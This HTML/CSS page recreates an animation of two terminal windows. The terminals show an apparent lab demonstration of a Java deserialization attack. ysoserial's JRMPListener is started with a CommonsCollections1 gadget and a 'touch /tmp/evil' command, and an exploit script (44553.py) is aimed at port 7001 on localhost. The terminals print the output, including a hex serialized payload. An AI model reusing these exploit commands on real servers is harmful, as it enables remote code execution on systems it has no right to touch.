
These frames come from a looping animation (640 by 221 pixels, 8000 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>Two terminals</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; }
  body { background: #131517; text-rendering: geometricPrecision; }
  #stage { position: relative; width: 640px; height: 221px; overflow: hidden; }
  #stage * { animation: 8s step-end infinite; }

  /* desktop and the window peeking out below */
  .desk { position: absolute; inset: 0 0 4px; background: linear-gradient(#4773ad 0 50px, #6d6296 95px, #4a6394 130px 185px, #131517 186px); }
  .under { position: absolute; inset: 0; width: 640px; height: 221px; }
  .under text { font: 6.6px "DejaVu Sans Mono", monospace; fill: #8d9292; }
  .under tspan { fill: #5f83ab; }
  .under rect { fill: #d3d7cf; }

  .win { position: absolute; top: 1px; height: 217.5px; background: #2d3436; border-radius: 3px 3px 0 0; box-shadow: 0 0 1px #0c0e0f; overflow: hidden; }
  .left { left: 1px; width: 324px; }
  .right { left: 317px; width: 323px; }
  #stage .left { animation-name: lose-focus; }
  #stage .right { animation-name: gain-focus; }

  .title { height: 13px; line-height: 12.5px; background: #2a3032; text-align: center; font-family: "Noto Sans", sans-serif; font-weight: 700; font-size: 6.45px; color: var(--title); }
  .title i { position: absolute; top: 3.2px; width: 6px; height: 6px; border-radius: 50%; }
  .min { right: 32px; background: var(--min); }
  .max { right: 18px; background: var(--max); }
  .close { right: 4px; background: var(--close); }
  .menu { display: flex; gap: 6.35px; height: 14px; padding-left: 4px; line-height: 15.5px; background: #2c3335; font-family: "Noto Sans", "Noto Sans CJK SC", "Noto Sans CJK", sans-serif; font-size: 7px; color: var(--menu); white-space: nowrap; }
  .bar { position: absolute; right: 0; top: 27px; bottom: 0; width: 4.4px; background: #fff; }
  .bar::after { content: ""; position: absolute; inset: 97px .7px 0; background: #b4b6b6; }

  /* 80 columns of 10 x 20 cells, scaled down */
  .term { position: absolute; left: .9px; top: 27px; width: 802px; margin: 0; z-index: 1; transform: scale(.3967); transform-origin: 0 0; font: 16.61px/20px "DejaVu Sans Mono", monospace; color: #d3d7cf; white-space: pre-wrap; line-break: anywhere; word-break: break-all; }
  .term b { color: #8ae234; }
  .term b + b { color: #729fcf; }
  .cur { position: absolute; left: 0; top: 0; width: 10px; height: 20px; box-sizing: border-box; border: 2px solid #d3d7cf; }
  #stage .left .cur { animation-name: left-cursor; }
  #stage .right .cur { animation-name: right-cursor; }

  #stage .listen { animation-name: listen; }
  #stage .shake { animation-name: shake; }
  #stage .send { animation-name: send; }
  #stage .load { animation-name: load; }
  #stage .reply { animation-name: reply; }

  .mouse { position: absolute; left: 0; top: 0; z-index: 5; overflow: visible; }
  #stage .hand { animation-name: hand; }
  #stage .beam { animation-name: beam; }

  @keyframes lose-focus {
    0% { z-index: 2; --title: #dde2e4; --menu: #cbd2d5; --min: #fdb924; --max: #3be43e; --close: #f0473c; }
    30%, 100% { z-index: 1; --title: #90989a; --menu: #858e90; --min: #666c6e; --max: #666c6e; --close: #666c6e; }
  }
  @keyframes gain-focus {
    0% { z-index: 1; --title: #90989a; --menu: #858e90; --min: #666c6e; --max: #666c6e; --close: #666c6e; }
    30%, 100% { z-index: 2; --title: #dde2e4; --menu: #cbd2d5; --min: #fdb924; --max: #3be43e; --close: #f0473c; }
  }
  @keyframes left-cursor {
    0% { visibility: hidden; translate: 660px 20px; background: #d3d7cf; }
    5.625% { visibility: visible; translate: 660px 20px; background: #d3d7cf; }
    18.125% { visibility: visible; translate: 0 40px; background: #d3d7cf; }
    21.625% { visibility: visible; translate: 0 60px; background: #d3d7cf; }
    26.625% { visibility: hidden; translate: 0 60px; background: #d3d7cf; }
    30% { visibility: visible; translate: 0 60px; background: transparent; }
    81.5% { visibility: visible; translate: 0 80px; background: transparent; }
    83%, 100% { visibility: visible; translate: 0 180px; background: transparent; }
  }
  @keyframes right-cursor {
    0% { visibility: visible; translate: 450px 20px; background: transparent; }
    30% { visibility: visible; translate: 450px 20px; background: #d3d7cf; }
    40.5% { visibility: hidden; translate: 450px 20px; background: #d3d7cf; }
    42.25% { visibility: visible; translate: 0 40px; background: #d3d7cf; }
    50.875% { visibility: hidden; translate: 0 40px; background: #d3d7cf; }
    57.75% { visibility: visible; translate: 0 60px; background: #d3d7cf; }
    65.125% { visibility: hidden; translate: 0 60px; background: #d3d7cf; }
    72.375% { visibility: visible; translate: 0 60px; background: #d3d7cf; }
    79.75% { visibility: hidden; translate: 0 280px; background: #d3d7cf; }
    86.125% { visibility: visible; translate: 0 280px; background: #d3d7cf; }
    93.5%, 100% { visibility: hidden; translate: 0 280px; background: #d3d7cf; }
  }
  @keyframes listen { 0% { visibility: hidden; } 21.625%, 100% { visibility: visible; } }
  @keyframes shake { 0% { visibility: hidden; } 55.875%, 100% { visibility: visible; } }
  @keyframes send { 0% { visibility: hidden; } 79.75%, 100% { visibility: visible; } }
  @keyframes load { 0% { visibility: hidden; } 81.5%, 100% { visibility: visible; } }
  @keyframes reply { 0% { visibility: hidden; } 83%, 100% { visibility: visible; } }
  @keyframes hand { 0% { visibility: visible; } 3.875%, 100% { visibility: hidden; } }
  @keyframes beam {
    0% { visibility: hidden; translate: 207px 113.5px; }
    13.125% { visibility: visible; translate: 207px 113.5px; }
    18.125% { visibility: hidden; translate: 207px 113.5px; }
    26.625% { visibility: visible; translate: 336px 86px; }
    28.5% { visibility: visible; translate: 385px 88px; }
    30% { visibility: visible; translate: 440px 90px; }
    31.5% { visibility: visible; translate: 472.5px 89.7px; }
    42.25% { visibility: hidden; translate: 472.5px 89.7px; }
    70.5% { visibility: visible; translate: 460.5px 159.5px; }
    72.375%, 100% { visibility: hidden; translate: 460.5px 159.5px; }
  }
</style>
</head>
<body>
<div id="stage">
  <div class="desk"></div>
  <svg class="under">
    <text x="108" y="223.5">0a6d00723033633a37313b7c2d7a <tspan>7a2e6c61786e</tspan> 6e2d6172697 <tspan>6c656e</tspan> 76616c75656f6e7</text>
    <rect x="429" y="218.500" width="5" height="2.500"/>
    <rect x="510" y="218.500" width="5" height="2.500"/>
  </svg>

  <div class="win left">
    <div class="title">rinkob@hutbox: ~/Desktop<i class="min"></i><i class="max"></i><i class="close"></i></div>
    <div class="menu"><span>文件(F)</span><span>编辑(E)</span><span>查看(V)</span><span>搜索(S)</span><span>终端(T)</span><span>帮助(H)</span></div>
    <pre class="term"><b>rinkob@hutbox</b>:<b>~/Desktop</b>$ java -cp ysoserial-0.0.6-SNAPSHOT-BETA-all.jar ysoseria
l.exploit.JRMPListener 23333 CommonsCollections1 'touch /tmp/evil'
<span class="listen">* Opening JRMP listener on 23333</span>
<span class="load">Have connection from /172.25.0.2:46958</span>
<span class="reply">Reading message...
Is DGC call for [[0:0:0, 1637848730], [0:0:0, 815870264], [0:0:0, -1849739843],
[0:0:0, 914379903], [0:0:0, 1777718097]]
Sending return with payload for obj [0:0:0, 2]
Closing connection</span><i class="cur"></i></pre>
    <div class="bar"></div>
  </div>

  <div class="win right">
    <div class="title">rinkob@hutbox: ~/Desktop<i class="min"></i><i class="max"></i><i class="close"></i></div>
    <div class="menu"><span>文件(F)</span><span>编辑(E)</span><span>查看(V)</span><span>搜索(S)</span><span>终端(T)</span><span>帮助(H)</span></div>
    <pre class="term"><b>rinkob@hutbox</b>:<b>~/Desktop</b>$ python 44553.py 127.0.0.1 7001 ysoserial-0.0.6-SNAPSHOT
-BETA-all.jar 192.168.85.133 23333 JRMPClient
<span class="shake">handshake successful</span>
<span class="send">send request payload successful,recv length:1691
command: java -jar ysoserial-0.0.6-SNAPSHOT-BETA-all.jar JRMPClient 192.168.85.1
33:23333 &gt; payload.out</span>
<span class="load">payload: aced0005737d00000001001a6a6176612e726d692e72656769737472792e52656769737
47279787200176a6176612e6c616e672e7265666c6563742e50726f7879e127da20cc1043cb02000
14c0001687400254c6a6176612f6c616e672f7265666c6563742f496e766f636174696f6e48616e6
46c65723b78707372002d6a6176612e726d692e7365727665722e52656d6f74654f626a656374496
e766f636174696f6e48616e646c657200000000000000020200007872001c6a6176612e726d692e7
365727665722e52656d6f74654f626a656374d361b4910c61331e03000078707737000a556e69636
17374526566000e3139322e3136382e38352e31333300005b25ffffffff91bf35bd0000000000000
0000000000000000078</span><i class="cur"></i></pre>
    <div class="bar"></div>
  </div>

  <svg class="mouse hand" width="1" height="1">
    <path d="M206.6 113q1-.8 1.6.3l.5 2 2.3.8q.7.5.5 1.8l-.6 3.3q-.3 1.3-1.3 1.3h-1.8q-.8 0-1.3-1l-1.9-3q0-1.2 1.2-.9l1.1.9z" fill="#fff" stroke="#111" stroke-width=".6"/>
  </svg>
  <svg class="mouse beam" width="1" height="1" fill="none">
    <defs><path id="ibeam" d="M-1.7-3.9Q0-3.9 0-3V3Q0 3.9-1.7 3.9M1.7-3.9Q0-3.9 0-3M0 3Q0 3.9 1.7 3.9"/></defs>
    <use href="#ibeam" stroke="#15181a" stroke-width="1.8"/>
    <use href="#ibeam" stroke="#e4e6e5" stroke-width=".8"/>
  </svg>
</div>
</body>
</html>
```
